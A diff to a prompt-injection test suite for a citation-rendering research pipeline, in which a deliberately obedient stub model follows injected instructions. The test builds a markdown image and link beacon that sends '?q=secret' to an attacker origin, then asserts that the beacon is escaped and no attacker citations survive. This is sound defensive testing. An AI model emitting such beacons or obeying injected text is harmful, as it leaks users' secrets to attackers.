@@ -3,7 +3,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
 import { parseCitations } from '../../src/citations/markup/parse-citations.ts'
 import { renderHtml } from '../../src/citations/markup/render-html.ts'
 import { type Service, startService } from '../web/services.ts'
-import { question, toolResults, WebWorld } from '../web/web-world.ts'
+import { question, sentence, toolResults, WebWorld } from '../web/web-world.ts'
 import { asciiOf, pageWith, pdfWith, videoUrl, videoWith } from './carriers.ts'
 import { allInjections, data } from './corpus.ts'
 import { type Call, ObedientModel } from './obedient-model.ts'
@@ -43,7 +43,7 @@ class ObeyingTeam {
       attacker: attacker.origin,
     })
     const beacon = `![](${attacker.origin}/?q=secret) [source](${attacker.origin}/?q=secret)`
-    const said = `${texts.join('\n\n')}\n\n${beacon}`
+    const said = `${sentence} [1].\n\n${texts.join('\n\n')}\n\n${beacon}`
     world.say({
       researcher: (seen) => {
         const answer = model.say(toolResults(seen))
@@ -86,7 +86,7 @@ describe.skipIf(!data)('a team that obeys what it reads (needs SCHOLIUM_DATA)', 
       for (let from = 0; from < texts.length; from += perQuestion) {
         const batch = texts.slice(from, from + perQuestion)
         const { answer, model, requests } = await team.ask(carrier, batch)
-        expect(answer.status).toMatch(/^(?:answered|partial|unanswered)$/)
+        expect(answer.status).toMatch(/^(?:answered|partial)$/)
         expect([...model.obeyed]).toHaveLength(new Set(batch).size)
         obeyed += model.obeyed.size
         orders += model.orderedWrites
@@ -95,6 +95,8 @@ describe.skipIf(!data)('a team that obeys what it reads (needs SCHOLIUM_DATA)', 
         expect(answer.citations.filter(({ url }) => url?.startsWith(team.attacker.origin))).toEqual(
           [],
         )
+        expect(answer.answer).toContain(`!\\[](${team.attacker.origin}/?q=secret)`)
+        expect(`${answer.answer}${answer.reasoning}`).not.toContain('![')
         expect(elementsOf(answer.answer)).toEqual([])
       }
       console.info(`ask, ${carrier}: ${obeyed} injections obeyed, ${orders} writes ordered`)
